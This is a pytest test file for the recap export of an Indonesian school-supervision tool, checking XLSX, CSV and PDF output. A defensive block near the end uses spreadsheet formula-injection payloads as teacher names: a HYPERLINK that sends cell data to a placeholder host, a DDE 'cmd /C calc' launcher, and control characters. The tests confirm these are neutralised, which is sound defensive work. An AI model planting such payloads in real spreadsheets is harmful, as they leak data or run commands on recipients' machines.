"""The exports read back: XLSX through openpyxl, CSV through csv, PDF through pypdf."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from observasi.context import AppContext
from observasi.errors import UserError
from observasi.recap.export import export_recap
from observasi.recap.period import Period
from observasi.recap.school import build_recap
from observasi.settings import Settings
from tests.recap.conftest import MiniSchool


@pytest.fixture
def context(school: MiniSchool, data_dir: Path) -> AppContext:
    return AppContext(Settings(data_dir=data_dir))


def _recap(school: MiniSchool):
    return build_recap(school.store, Period.of_semester("2026-1"))


def test_xlsx_sheets_figures_and_formatting(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = export_recap(context, _recap(school), tmp_path / "rekap.xlsx").path
    book = load_workbook(path)
    assert book.sheetnames[:3] == ["Rekap", "Per indikator", "Tindak lanjut"]
    sheet = book["Rekap"]
    header_row = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "No")
    assert sheet.freeze_panes == f"A{header_row + 1}"
    assert sheet.cell(header_row, 2).font.bold
    header = [c.value for c in sheet[header_row]]
    assert header[-2:] == ["Instrumen", "Versi"]
    ani = [c.value for c in sheet[header_row + 1]]
    assert ani[1] == "Ani Lestari, S.Pd." and ani[4] == 2
    assert (ani[6], ani[7], ani[8], ani[9], ani[10]) == (90.0, 85.0, "Baik", "mini", "1")
    assert sheet.cell(header_row + 1, 7).number_format == "0.00"
    assert sheet.column_dimensions["B"].width >= len("Ani Lestari, S.Pd.")
    assert any("hanya observasi final" in str(sheet.cell(r, 1).value) for r in range(1, header_row))
    indicators = book["Per indikator"]
    assert indicators.freeze_panes == "A2"
    first = [c.value for c in indicators[2]]
    assert first[:4] == ["mini", "1", "Perencanaan", "R2"] and first[8] == pytest.approx(58.33)
    followups = [[c.value for c in row] for row in book["Tindak lanjut"].iter_rows(min_row=2)]
    assert [r[4] for r in followups] == ["Menyusun asesmen formatif", "Mengatur waktu penutup"]
    assert followups[0][2:4] == ["mini", "1"] and followups[0][7] == "Selesai"


def test_csv_is_utf8_with_bom_and_carries_the_form(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    from observasi.store.models import Teacher
    from tests.recap.conftest import add_observation

    sukru = school.store.save_teacher(Teacher(name="Şükrü Al-Qur'ān"))
    add_observation(
        school.store,
        school.form,
        sukru,
        school.joko,
        "2026-12-01",
        {"R1": "4", "R2": "4", "I1": "4", "I2": "4", "I3": "4"},
    )
    path = export_recap(context, _recap(school), tmp_path / "rekap.csv").path
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    # By default what Excel in Indonesian opens by double-click: ";" and a decimal comma.
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header_at = rows.index(
        [
            "No",
            "Nama guru",
            "NIP/NUPTK",
            "Mata pelajaran",
            "Jumlah final",
            "Tanggal terakhir",
            "Nilai terakhir",
            "Rata-rata nilai",
            "Predikat terakhir",
            "Instrumen",
            "Versi",
        ]
    )
    assert rows[header_at - 1] == ["Rekap per guru"]
    assert rows[header_at + 1][1:] == [
        "Ani Lestari, S.Pd.",
        "NIP 198501012010012001",
        "IPA",
        "2",
        "2026-10-05",
        "90,00",
        "85,00",
        "Baik",
        "mini",
        "1",
    ]
    assert any(r[1:2] == ["Şükrü Al-Qur'ān"] for r in rows)
    assert [
        "Instrumen",
        "Versi",
        "Bagian",
        "Kode",
        "Indikator",
        "Dinilai",
        "T/A",
        "Rata-rata",
        "Persen",
        "Sebaran tingkat",
    ] in rows


def test_pdf_has_letterhead_figures_and_page_numbers(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    from pypdf import PdfReader

    path = export_recap(context, _recap(school), tmp_path / "rekap.pdf").path
    reader = PdfReader(str(path))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for expected in (
        "SMP NEGERI 1 CONTOH",
        "NPSN 20200001",
        "REKAP HASIL SUPERVISI AKADEMIK",
        "Ganjil 2026/2027",
        "Ani Lestari, S.Pd.",
        "90,00",
        "85,00",
        "56,25",
        "mini 1",
        "Halaman 1 dari",
        "Hj. Rina Marlina, M.Pd.",
        "hanya observasi final",
    ):
        assert expected in text, expected
    assert reader.metadata.title == "Rekap Hasil Supervisi Akademik"


def test_unknown_extension_and_signing_a_spreadsheet_are_refused(
    school: MiniSchool, context: AppContext, tmp_path: Path
) -> None:
    with pytest.raises(UserError, match=r"\.txt"):
        export_recap(context, _recap(school), tmp_path / "rekap.txt")
    with pytest.raises(UserError, match="PDF"):
        export_recap(context, _recap(school), tmp_path / "rekap.xlsx", sign=True)
    assert list(tmp_path.glob("rekap*")) == []


def test_export_leaves_no_temp_file_behind(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_recap(context, _recap(school), out / "rekap.xlsx")
    export_recap(context, _recap(school), out / "rekap.xlsx")  # overwrite
    assert sorted(p.name for p in out.iterdir()) == ["rekap.xlsx"]


FORMULA_NAMES = (
    '=HYPERLINK("http://contoh.test/?d="&B2,"Lihat nilai")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def _school_of_formulas(school: MiniSchool) -> list[str]:
    """Teachers named by the four classic injection formulas, and one whose name carries
    control characters (stored as an older version or a crafted revision left them),
    each observed once."""
    from observasi.store.models import Teacher
    from tests.recap.conftest import add_observation

    names = [*FORMULA_NAMES, "Bel\x07l\x1b[2J Guru\x0b"]
    for i, name in enumerate(names):
        teacher = school.store.save_teacher(Teacher(name=name))
        day = f"2026-11-{10 + i:02d}"
        add_observation(school.store, school.form, teacher, school.joko, day, {"R1": "3", "I1": "2"})
    return names


def test_xlsx_shows_formula_names_as_text_and_never_fails_on_a_character(
    school: MiniSchool, context: AppContext, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    _school_of_formulas(school)
    path = export_recap(context, _recap(school), tmp_path / "rekap.xlsx").path
    sheet = load_workbook(path)["Rekap"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for name in FORMULA_NAMES:
        assert cells[name].data_type == "s", name  # text, not a formula
        assert cells[name].quotePrefix
    assert "Bell[2J Guru" in cells
    nilai = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, float)]
    assert nilai  # numbers stay numbers
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_csv_writes_formula_names_behind_an_apostrophe(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    _school_of_formulas(school)
    path = export_recap(context, _recap(school), tmp_path / "rekap.csv").path
    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";") for c in row]
    for name in FORMULA_NAMES:
        assert "'" + name in cells and name not in cells
    assert "Bell[2J Guru" in cells
    # No cell starts like a formula; the numbers are written as numbers.
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]
    assert any(re.fullmatch(r"\d+,\d\d", c) for c in cells)  # Indonesian Excel's decimal comma


def test_csv_rfc4180_dialect_uses_commas_and_points(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
    path = export_recap(context, _recap(school), tmp_path / "rekap.csv", csv_dialect="rfc4180").path
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    teacher_row = next(r for r in rows if r[1:2] == ["Ani Lestari, S.Pd."])
    assert teacher_row[6:8] == ["90.00", "85.00"]
